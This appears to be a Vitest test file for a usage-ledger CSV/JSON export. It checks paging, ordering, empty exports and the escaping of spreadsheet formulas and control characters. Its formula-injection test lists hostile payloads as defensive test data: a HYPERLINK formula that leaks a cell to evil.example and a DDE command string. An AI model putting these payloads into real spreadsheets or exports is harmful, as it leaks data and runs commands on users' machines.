import { describe, expect, it } from 'vitest';
import { exportText, type ExportFormat, type ExportTextRow } from '../../../../electron/ledger/export/export-text.js';
import { csvRecords } from '../../hosts/http/csv.js';

const T0 = Date.UTC(2026, 5, 1, 10);

function row(overrides: Partial<ExportTextRow>): ExportTextRow {
  return {
    id: '1',
    ts: T0,
    model: 'm',
    apiType: null,
    inputTokens: 1,
    outputTokens: 0,
    cacheReadTokens: 0,
    cacheWriteTokens: 0,
    success: true,
    failureClass: null,
    statusCode: null,
    latencyMs: null,
    ttftMs: null,
    channel: null,
    source: null,
    requestId: null,
    cost: null,
    currency: null,
    ...overrides,
  };
}

/** The pages' texts joined, each told its place as the export's pages are. */
function exported(pages: ExportTextRow[][], format: ExportFormat): string {
  let text = '';
  let written = 0;
  const count = Math.max(1, pages.length);
  for (let i = 0; i < count; i++) {
    const rows = pages[i] ?? [];
    text += exportText(rows, format, { first: i === 0, written, last: i === count - 1 });
    written += rows.length;
  }
  return text;
}

function csvOf(rows: ExportTextRow[]): { text: string; records: Record<string, string>[] } {
  const text = exported([rows], 'csv');
  return { text, records: csvRecords(text) };
}

describe('an export\'s pages as text', () => {
  const rows = (from: number, count: number) => Array.from({ length: count }, (_, i) => row({ id: String(from + i), ts: T0 + from + i, inputTokens: from + i }));
  // Pages as the ledger hands them out, an empty one among them (the runs of a range that has none).
  const CHUNKS = [rows(0, 3), [], rows(3, 1), rows(4, 5)];

  it('CSV: one header line, then every row once, in order, whatever the pages', () => {
    const text = exported(CHUNKS, 'csv');
    expect(text.split('\n').filter((line) => line.startsWith('time,ts,model'))).toHaveLength(1);
    expect(text.startsWith('time,ts,model,')).toBe(true);
    expect(csvRecords(text).map((record) => Number(record['inputTokens']))).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
  });

  it('JSON: one array of every row, in order, whatever the pages', () => {
    const parsed = JSON.parse(exported(CHUNKS, 'json')) as ExportTextRow[];
    expect(parsed.map((r) => r.inputTokens)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
  });

  it('an export of nothing is the header alone, or an empty array', () => {
    for (const pages of [[], [[]], [[], []]]) {
      expect(exported(pages, 'csv')).toBe(`${exported([rows(0, 1)], 'csv').split('\n')[0]}\n`);
      expect(JSON.parse(exported(pages, 'json'))).toEqual([]);
    }
  });

  it('JSON: rows after empty pages still open the array once', () => {
    const parsed = JSON.parse(exported([[], [], rows(0, 2), []], 'json')) as ExportTextRow[];
    expect(parsed.map((r) => r.inputTokens)).toEqual([0, 1]);
  });
});

describe('the CSV export, opened in a spreadsheet', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"invoice")', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];

  it('runs no formula: every cell a spreadsheet would evaluate starts with an apostrophe', () => {
    const { records } = csvOf(
      FORMULAS.map((text, index) => row({ id: String(index), model: text, source: text, requestId: text, channelLabel: text, route: text, failureClass: null })),
    );
    expect(records).toHaveLength(FORMULAS.length);
    records.forEach((record, index) => {
      for (const column of ['model', 'source', 'requestId', 'channelLabel', 'route']) expect(record[column]).toBe(`'${FORMULAS[index]}`);
    });
  });

  it('keeps numbers as numbers, negative ones too', () => {
    const { records } = csvOf([row({ cost: -0.5, currency: 'USD', latencyMs: 12 })]);
    expect(records[0]).toMatchObject({ cost: '-0.5', latencyMs: '12', currency: 'USD' });
  });

  it('carries no NUL or other control character; tabs and line breaks stay inside quoted cells', () => {
    const { text, records } = csvOf([row({ model: 'ok', requestId: 'a\u0000b\u001b[31mc\u007f\u0085', source: 'line\nbreak\ttab' })]);
    expect(text).not.toMatch(/(?![\t\n\r])\p{Cc}/u);
    expect(records[0]).toMatchObject({ requestId: 'a\uFFFDb\uFFFD[31mc\uFFFD\uFFFD', source: 'line\nbreak\ttab' });
  });
});

